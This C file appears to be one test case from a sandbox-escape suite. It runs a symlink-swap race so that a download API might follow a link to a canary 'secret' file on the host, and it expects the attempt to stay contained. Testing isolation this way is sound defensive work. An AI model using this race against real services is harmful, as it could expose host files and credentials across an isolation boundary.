// tries: Swap a file for a link to the host's secret while the API downloads it.
// partner: downloads
// timeout: 25
// gvisor: contained
// container: contained
#include "verdict.h"
#include <sys/stat.h>

int main(void) {
    char target[300];
    snprintf(target, sizeof target, "%s/secret", getenv("CANARY"));
    mkdir("place", 0755);
    close(open("place/real", O_CREAT | O_WRONLY, 0644));
    symlink(target, "place/link");
    close(open("place/ready", O_CREAT, 0644));
    for (;;) {
        link("place/real", "place/next");
        rename("place/next", "place/file");
        usleep(100);
        symlink(target, "place/next");
        rename("place/next", "place/file");
        usleep(100);
        unlink("place/next");
    }
}
